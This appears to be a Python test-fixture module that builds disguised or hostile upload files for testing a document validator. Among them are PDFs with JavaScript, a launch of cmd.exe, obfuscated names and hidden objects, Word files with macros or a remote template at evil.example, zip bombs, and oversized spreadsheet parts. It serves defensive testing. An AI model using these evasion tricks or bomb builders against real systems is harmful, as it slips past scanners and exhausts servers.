"""Files built in the tests that claim to be what units upload and are not, or carry what must
not be stored (scripts, macros, bombs); and their honest twins, which must pass."""

import io
import struct
import zipfile
import zlib

from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript, in the catalog's /Names tree."""
    writer = _pdf_writer()
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('xin chao');"),
            }
        )
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("chao"), action])}
            )
        }
    )
    return _written(writer)


def pdf_opening_with_javascript() -> bytes:
    """JavaScript as the document's /OpenAction, not in the /Names tree."""
    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    return _written(writer)


def pdf_with_page_action_javascript() -> bytes:
    """JavaScript in a page's additional actions (/AA), run when the page opens."""
    writer = _pdf_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("this.print()"),
                }
            )
        }
    )
    return _written(writer)


def pdf_launching_a_program() -> bytes:
    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("hoa-don.exe", b"MZ\x90\x00 not a program")
    return _written(writer)


def pdf_with_password() -> bytes:
    writer = _pdf_writer()
    writer.encrypt(user_password="mat-khau", owner_password="chu", algorithm="RC4-128")
    return _written(writer)


def pdf_with_hidden_javascript_name() -> bytes:
    """The /OpenAction's names written with legal escapes (/J#61vaScript, /J#53): a byte search
    for "/JavaScript" or "/JS" misses them; pypdf reads names decoded. (The escapes move the
    objects by a few bytes, which pypdf's reader finds again.)"""
    data = pdf_opening_with_javascript()
    return data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS (", b"/J#53 (")


def zip_of(parts: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def content_types(main_part: str, main_type: str, *extra: tuple[str, str]) -> bytes:
    overrides = "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>'
        for part, kind in ((main_part, main_type), *extra)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{overrides}</Types>"
    ).encode()


def docx_bytes(text: str = "Báo cáo") -> bytes:
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_with_vba_project() -> bytes:
    """A Word file carrying a macro project, content types still those of a plain .docx."""
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    return zip_of(parts)


def docm_renamed_docx() -> bytes:
    """A macro-enabled document (.docm content types) renamed .docx."""
    return zip_of(
        {
            "[Content_Types].xml": content_types("word/document.xml", DOCM_MAIN),
            "word/document.xml": b"<w:document/>",
        }
    )


def zip_renamed_docx() -> bytes:
    return zip_of({"hello.txt": b"xin chao"})


def xlsx_renamed_docx() -> bytes:
    workbook = Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bomb(unpacked_bytes: int) -> bytes:
    """A .docx whose image is `unpacked_bytes` of zeros (a 1 GiB one packs to under 5 MB),
    written in chunks, so the test never holds it unpacked."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN))
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/image1.bin", "w", force_zip64=True) as member:
            chunk = b"\0" * (16 * 1024 * 1024)
            for _ in range(unpacked_bytes // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def many_members_docx(count: int) -> bytes:
    parts = {
        "[Content_Types].xml": content_types("word/document.xml", DOCX_MAIN),
        "word/document.xml": b"<w:document/>",
    }
    parts.update({f"word/part{n}.xml": b"" for n in range(count)})
    return zip_of(parts, compression=zipfile.ZIP_STORED)


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odf_content(body: str = "<text:p>Biên bản họp</text:p>") -> bytes:
    """A content.xml whose text body is `body` (ODF namespaces declared)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES}>'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    ).encode()


def odt_bytes(
    mimetype: str = "application/vnd.oasis.opendocument.text",
    content: bytes | None = None,
    parts: dict[str, bytes] | None = None,
    **extra,
) -> bytes:
    """An OpenDocument file; `parts` by their names (a manifest among them replaces the plain
    one), `extra` named with "__" for "/"."""
    members = {
        "content.xml": content or odf_content(),
        "META-INF/manifest.xml": b"<manifest:manifest/>",
        **{name.replace("__", "/"): data for name, data in extra.items()},
        **(parts or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# ---------------------------------------------------------------- OLE2 (legacy .doc / .xls)


def _ole_entry(name: str, kind: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    entry = bytearray(128)
    entry[: len(encoded)] = encoded
    struct.pack_into("<HBB", entry, 0x40, len(encoded), kind, 1)
    struct.pack_into("<III", entry, 0x44, 0xFFFFFFFF, right, child)
    struct.pack_into("<IQ", entry, 0x74, 0xFFFFFFFE, 0)
    return bytes(entry)


def ole_file(*names: str) -> bytes:
    """A compound file (512-byte sectors): sector 0 the FAT, sector 1 the directory holding the
    root and `names` (streams, or storages when named like Word's macro storage)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 0x18, 0x3E, 3, 0xFFFE)
    struct.pack_into("<HH", header, 0x1E, 9, 6)
    struct.pack_into("<IIII", header, 0x2C, 1, 1, 0, 4096)
    struct.pack_into("<IIII", header, 0x3C, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    difat = [0] + [0xFFFFFFFF] * 108
    struct.pack_into("<109I", header, 0x4C, *difat)
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    entries = [_ole_entry("Root Entry", 5, child=1 if names else 0xFFFFFFFF)]
    for position, name in enumerate(names, start=1):
        kind = 1 if name in ("Macros", "VBA", "_VBA_PROJECT_CUR") else 2
        right = position + 1 if position < len(names) else 0xFFFFFFFF
        entries.append(_ole_entry(name, kind, right=right))
    directory = b"".join(entries).ljust(512, b"\0")
    return bytes(header) + fat + directory


def compound_file(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A compound file holding real `streams` (those under 4096 bytes in the mini stream, as
    Office writes them) and empty `storages`, all at the root; at most 127 sectors in all."""
    free, end, fat_mark = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat = [fat_mark]  # sector 0 is the FAT itself
    sectors: list[bytes] = []

    def chain(data: bytes, size: int = 512) -> int:
        if not data:
            return end
        pieces = [data[i : i + size].ljust(size, b"\0") for i in range(0, len(data), size)]
        first = len(fat)
        for index, piece in enumerate(pieces):
            sectors.append(piece)
            fat.append(first + index + 1 if index < len(pieces) - 1 else end)
        return first

    names = list(streams) + list(storages)
    entry_count = 1 + len(names)
    directory_sectors = -(-entry_count * 128 // 512)
    directory_start = chain(b"\0" * 512 * directory_sectors)  # placeholder, filled below
    mini, mini_fat, starts = b"", [], {}
    for name, data in streams.items():
        if len(data) >= 4096:
            starts[name] = chain(data)
        else:
            first = len(mini) // 64
            count = -(-len(data) // 64) or 1
            mini += data.ljust(count * 64, b"\0")
            mini_fat += [first + i + 1 for i in range(count - 1)] + [end]
            starts[name] = first
    mini_start = chain(mini) if mini else end
    mini_fat_start = chain(struct.pack(f"<{len(mini_fat)}I", *mini_fat)) if mini_fat else end

    def entry(name, kind, start, size, right=free, child=free) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        raw = bytearray(128)
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 0x40, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 0x44, free, right, child)
        struct.pack_into("<IQ", raw, 0x74, start, size)
        return bytes(raw)

    entries = [entry("Root Entry", 5, mini_start, len(mini), child=1 if names else free)]
    for position, name in enumerate(names, start=1):
        right = position + 1 if position < len(names) else free
        if name in streams:
            entries.append(entry(name, 2, starts[name], len(streams[name]), right=right))
        else:
            entries.append(entry(name, 1, end, 0, right=right))
    directory = b"".join(entries).ljust(512 * directory_sectors, b"\0")
    for index in range(directory_sectors):
        sectors[directory_start - 1 + index] = directory[index * 512 : (index + 1) * 512]
    assert len(fat) <= 128
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 0x18, 0x3E, 3, 0xFFFE)
    struct.pack_into("<HH", header, 0x1E, 9, 6)
    struct.pack_into("<IIII", header, 0x2C, 1, directory_start, 0, 4096)
    struct.pack_into("<IIII", header, 0x3C, mini_fat_start, 1 if mini_fat else 0, end, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([free] * 108))
    fat_sector = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
    return bytes(header) + fat_sector + b"".join(sectors)


def ppt_record(kind: int, body: bytes = b"", *, container: bool = False) -> bytes:
    """A PowerPoint record: version 0xF for a container, then type and length."""
    return struct.pack("<HHI", 0x000F if container else 0, kind, len(body)) + body


def ppt_file(*records: bytes, padding: int = 5000) -> bytes:
    """A .ppt whose "PowerPoint Document" stream is a Document container holding `records`
    after `padding` bytes of a harmless atom (a real deck's stream is tens of kilobytes; a
    small padding puts it in the mini stream)."""
    filler = ppt_record(0x0FBA, b"\0" * padding)  # CString atom: text, nothing active
    document = ppt_record(0x03E8, filler + b"".join(records), container=True)
    return compound_file(
        {"PowerPoint Document": document, "Current User": b"\0" * 40},
    )


# ---------------------------------------------------------------------------------- images


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header declaring width × height pixels, with a tiny (wrong) image body."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), (10, 120, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


def damaged_png(png: bytes) -> bytes:
    """A real PNG with a byte of its image data changed: its checksum no longer holds."""
    position = png.index(b"IDAT") + 6
    return png[:position] + bytes([png[position] ^ 0xFF]) + png[position + 1 :]


# ------------------------------------------- active content a viewer runs, fetches or opens


def raw_pdf(catalog: bytes, *objects: tuple[int, bytes], unlisted: tuple[int, ...] = ()) -> bytes:
    """A one-page PDF written by hand: object 1 the catalog (`catalog` inside its dictionary),
    then `objects`; those in `unlisted` are in the file but free in the cross-reference table."""
    body = [
        (1, b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        *objects,
    ]
    out, offsets = b"%PDF-1.7\n", {}
    for number, data in body:
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    start, size = len(out), max(offsets) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        listed = number in offsets and number not in unlisted
        out += b"%010d 00000 n \n" % offsets[number] if listed else b"0000000000 65535 f \n"
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def pdf_with_xfa_script() -> bytes:
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
        b'activity="initialize"><script contentType="application/x-javascript">app.alert(1)'
        b"</script></event></subform></template></xdp:xdp>"
    )
    return raw_pdf(
        b"/AcroForm 5 0 R /NeedsRendering true",
        (4, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(xfa), xfa)),
        (5, b"<< /Fields [] /XFA 4 0 R >>"),
    )


def pdf_opening_with(action: bytes) -> bytes:
    return raw_pdf(b"/OpenAction << " + action + b" >>")


def pdf_page_opening_address() -> bytes:
    """A /URI action in a page's additional actions, behind a reference."""
    return raw_pdf(
        b"/Pages 2 0 R",
        (4, b"<< /S /URI /URI (http://evil.example/track) >>"),
        (5, b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"),
        (6, b"<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>"),
    ).replace(b"/Pages 2 0 R /Pages 2 0 R", b"/Pages 5 0 R")


def pdf_with_unlisted_javascript() -> bytes:
    """The /OpenAction's script object is in the file, its cross-reference entry free."""
    return raw_pdf(
        b"/OpenAction 4 0 R", (4, b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), unlisted=(4,)
    )


def unlisted_object_stream(inner: bytes, *, flate: bool = True, filter_name: bytes = b"") -> bytes:
    """A PDF holding object 5, an object stream (PDF 1.5 compressed objects) whose content is
    `inner`; its cross-reference entry is free, so only a viewer repairing the table finds it."""
    content = zlib.compress(inner) if flate else inner
    name = filter_name or (b"/FlateDecode" if flate else b"")
    dictionary = b"<< /Type /ObjStm /N 1 /First 6 /Length %d%s >>" % (
        len(content),
        b" /Filter " + name if name else b"",
    )
    return raw_pdf(b"", (5, dictionary + b"\nstream\n" + content + b"\nendstream"), unlisted=(5,))


def pdf_with_a_link() -> bytes:
    """An ordinary link annotation to a web address, followed only when clicked."""
    return raw_pdf(
        b"/Pages 5 0 R",
        (
            4,
            b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /A << /S /URI /URI "
            b"(https://thuvienphapluat.vn/) >> >>",
        ),
        (5, b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"),
        (6, b"<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"),
    ).replace(b"/Pages 2 0 R /Pages 5 0 R", b"/Pages 5 0 R")


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with(parts: dict[str, bytes]) -> bytes:
    """A real python-docx document plus `parts` (by name), replacing any of the same name."""
    return zip_with(docx_bytes(), parts)


def zip_with(package: bytes, parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        files = {name: source.read(name) for name in source.namelist()}
    files.update(parts)
    return zip_of(files)


def relationships(*entries: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(entries)
        + "</Relationships>"
    ).encode()


def docx_with_remote_template() -> bytes:
    rel = (
        f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    return docx_with({"word/_rels/settings.xml.rels": relationships(rel)})


def docx_with_internal_hyperlink() -> bytes:
    """document.xml.rels as python-docx writes it, plus a hyperlink to a part of the file."""
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
        rels = source.read("word/_rels/document.xml.rels")
    link = f'<Relationship Id="rId99" Type="{RELS}/hyperlink" Target="#muc-2"/>'.encode()
    rels = rels.replace(b"</Relationships>", link + b"</Relationships>")
    return docx_with({"word/_rels/document.xml.rels": rels})


def docx_with_chart_workbook() -> bytes:
    """A chart's data, as Word stores it: a workbook under word/embeddings/."""
    workbook = Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    return docx_with({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": buffer.getvalue()})


SHARED_STRINGS_TYPE = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
)
SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _import_workbook() -> bytes:
    """A one-column workbook, as a unit would import it: code in A1, 1.1 in A2."""
    workbook = Workbook()
    workbook.active.append(["code"])
    workbook.active.append(["1.1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_streaming_part(
    name: str, head: bytes, entries, tail: bytes, *, types=b"", renamed: str = ""
) -> bytes:
    """The import workbook with part `name` written in pieces (head, each entry, tail), so a
    part of tens of megabytes is built without holding it whole; `types` joins the manifest.
    `renamed` stores the part under that name instead, renamed in the manifest and the
    relationships that point to it too."""
    out = io.BytesIO()
    stored = renamed or name
    with (
        zipfile.ZipFile(io.BytesIO(_import_workbook())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            if member.filename == name:
                continue
            body = source.read(member)
            if member.filename == "[Content_Types].xml":
                body = body.replace(b"</Types>", types + b"</Types>")
            filename = member.filename
            if renamed:
                body = body.replace(name.encode(), renamed.encode())
                old_rels = "{}/_rels/{}.rels".format(*name.rsplit("/", 1))
                if filename == old_rels:
                    filename = "{}/_rels/{}.rels".format(*renamed.rsplit("/", 1))
            target.writestr(filename, body)
        with target.open(stored, "w", force_zip64=True) as part:
            part.write(head)
            batch = []
            for entry in entries:
                batch.append(entry)
                if len(batch) == 10_000:
                    part.write(b"".join(batch))
                    batch = []
            part.write(b"".join(batch) + tail)
    return out.getvalue()


def xlsx_with_shared_strings(count: int, *, prefix: str = "", declared: int = 1) -> bytes:
    """A workbook whose sharedStrings.xml holds `count` distinct texts while its count and
    uniqueCount attributes say `declared`: openpyxl builds the whole table on opening, before
    any row is read. `prefix` writes the elements with a namespace prefix (<x:si>)."""
    tag = f"{prefix}:" if prefix else ""
    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
    head = (
        f'<?xml version="1.0" encoding="UTF-8"?><{tag}sst {xmlns}="{SPREADSHEET_NS}" '
        f'count="{declared}" uniqueCount="{declared}">'
    ).encode()
    entry = f"<{tag}si><{tag}t>%d</{tag}t></{tag}si>".encode()
    override = (
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_STRINGS_TYPE}"/>'
    ).encode()
    return _xlsx_streaming_part(
        "xl/sharedStrings.xml",
        head,
        (entry % i for i in range(count)),
        f"</{tag}sst>".encode(),
        types=override,
    )


def xlsx_with_styles(count: int) -> bytes:
    """A workbook whose styles.xml declares `count` distinct cell formats (Excel stops at
    64 000): openpyxl reads the whole stylesheet on opening."""
    head = (
        f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{SPREADSHEET_NS}">'
        '<fonts count="1"><font><sz val="11"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders>'
        f'<cellXfs count="{count}">'
    ).encode()
    entries = (
        b'<xf numFmtId="%d" fontId="0" fillId="0" borderId="0"><alignment indent="%d"/></xf>'
        % (i % 200, i % 250)
        for i in range(count)
    )
    return _xlsx_streaming_part("xl/styles.xml", head, entries, b"</cellXfs></styleSheet>")


def xlsx_with_workbook_elements(
    count: int, *, element: str = "fileVersion", part: str = "", encoding: str = "utf-8"
) -> bytes:
    """A workbook whose workbook part holds `count` more empty elements <`element`N/>, which
    openpyxl parses whole on opening; `part` stores it under another name (xl/workbook.dat),
    which the manifest and the relationships follow, and `encoding` writes it in another
    encoding (with a byte-order mark and a declaration saying so)."""
    head = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?><workbook xmlns="{SPREADSHEET_NS}"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        "<workbookPr/>"
    )
    tail = (
        '<bookViews><workbookView activeTab="0"/></bookViews><sheets><sheet name="Sheet" '
        'sheetId="1" state="visible" r:id="rId1"/></sheets><calcPr calcId="124519"/></workbook>'
    )
    mark = "\ufeff" if encoding.casefold().startswith("utf-16") else ""
    return _xlsx_streaming_part(
        "xl/workbook.xml",
        (mark + head).encode(encoding),
        (f"<{element}{i}/>".encode(encoding) for i in range(count)),
        tail.encode(encoding),
        renamed=part,
    )
